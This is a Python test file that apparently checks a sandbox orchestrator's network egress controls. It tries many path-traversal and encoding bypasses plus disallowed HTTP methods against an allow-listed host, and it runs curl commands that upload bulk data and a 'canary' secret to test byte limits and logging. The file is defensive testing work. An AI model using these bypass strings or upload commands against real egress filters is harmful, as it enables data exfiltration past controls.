"""Data carried out through hosts that are allowed (case N10): other paths and methods, too much, untold."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from orchestrator.config import Settings
from tests.attack.conftest import settings
from tests.attack.conversations import asked, is_refused
from tests.attack.report import Case
from tests.attack.test_requests import attackers, listed
from tests.attack.world import World
from tests.e2e.caller import Caller, Json
from tests.e2e.server import ServerProcess

pytestmark = pytest.mark.usefixtures("beside")

_LIMIT_BYTES = 1 << 20


@pytest.mark.case("N10")
@pytest.mark.parametrize("scheme", ["http", "https"])
def test_paths_and_methods(case: Case, world: World, far_caller: Caller, scheme: str) -> None:
    rule = {"domain": "site.test", "methods": ["GET", "HEAD"], "paths": ["/mine/*", "/one"]}
    for attacker in attackers(far_caller, listed(rule)):

        def ask(path: str, *headers: str, method: str = "GET") -> Json:
            return asked(scheme, " ".join((method, path, *headers)), path, *headers, method=method)

        allowed = attacker.talk(ask("/mine/a?x=/../../theirs"), ask("/one"), ask("/mine/", method="HEAD"))
        for tried, got in allowed.items():
            case.tried(f"{scheme}: control: {tried}", got, ok="200 OK" in got)
        world.outside.forget()
        said = attacker.talk(
            *map(ask, ("/theirs", "/mine", "/mine/../theirs", "/mine/./../theirs", "/mine/%2e%2e/theirs",
                       "/mine/.%2e/theirs", "/mine/%2E%2E%2Ftheirs", "/mine/..%2ftheirs", "/mine/%252e%252e/theirs",
                       "/mine//theirs", "/mine/..;/theirs", "/mine/;x/../theirs", "/mine\\..\\theirs",
                       "/mine/%5c..%5ctheirs", "/mine/..%00/theirs", "//theirs/mine/", "/MINE/a", "/one/", "/one/two",
                       "/one%2ftwo", "/%6done", "/mine/\xc0\xae\xc0\xae/theirs", "/mine/%c0%ae%c0%ae/theirs",
                       "/?/mine/", "/#/mine/a", "/theirs#/mine/a")),
            *(ask("/mine/a", method=each) for each in ("POST", "PUT", "DELETE", "PATCH", "OPTIONS", "get ", "BREW")),
        )  # fmt: skip
        for tried, got in said.items():
            passed = "/mine/%c0" in tried
            case.tried(f"{scheme}: {tried}", got, ok=is_refused(got) or passed)
        came = sorted({each.target for each in world.outside.requests()})
        ok = all(each.startswith("/mine/%c0") for each in came)
        case.tried(f"{scheme}: paths that the site read", came or "none", ok=ok)
        (got,) = attacker.talk(ask("/mine/a", "X-HTTP-Method-Override: DELETE")).values()
        case.differs(f"{scheme}: a header that asks for another method", f"{got[-30:]}: what it means is the site's")


@pytest.fixture
def frugal(world: World, engine: Settings, runtime: str, tmp_path: Path) -> Iterator[ServerProcess]:
    """A server whose environments may send and receive little."""
    fields = {"EGRESS__LIMIT_BYTES": str(_LIMIT_BYTES), "POOL__SIZE": "0", **settings(runtime)}
    process = ServerProcess(engine, tmp_path, **fields)
    process.start()
    yield process
    process.close()


@pytest.mark.case("N10")
def test_what_is_carried_out_is_told_and_bounded(case: Case, world: World, frugal: ServerProcess) -> None:
    with frugal.caller() as caller:
        for attacker in attackers(caller, listed("site.test")):
            sending = "head -c 400000 /dev/zero | curl -sS -m 10 -o /dev/null -w '%{http_code} ' --data-binary @- URL; "
            urls = ("http://site.test/?secret=canary", "http://site.test/two")
            got = attacker.bash(
                "".join(sending.replace("URL", f"'{url}'") for url in urls)
                + "head -c 400000 /dev/zero | curl -skS -m 10 -o /dev/null -w '%{http_code} ' --data-binary @- "
                "https://site.test/three 2>&1; curl -sS http://site.test/four"
            )
            case.tried("1.2 MB where 1 MiB is allowed", got, ok="has used up its 1048576 bytes" in got)
            sent = sum(len(visit.data) for visit in world.outside.visits)
            case.tried("what arrived", f"{sent} bytes", ok=sent in range(800_000, _LIMIT_BYTES + (128 << 10)))
            logged = frugal.cli("logs", attacker.environment_id, "--kind", "network", "--json").stdout
            entries = [json.loads(line)["body"] for line in logged.splitlines() if line.strip()]
            told = sum(entry["sent_bytes"] for entry in entries)
            hosts = {entry["host"] for entry in entries}
            case.tried(
                "what the log tells of it", f"{told} bytes to {hosts}", ok=told >= 800_000 and hosts == {"site.test"}
            )
            case.tried("queries in the log", "canary" in logged, ok="canary" not in logged)
            got = attacker.bash("curl -sS http://site.test/again")
            case.tried("a second interaction in the same environment", got, ok="used up" in got)
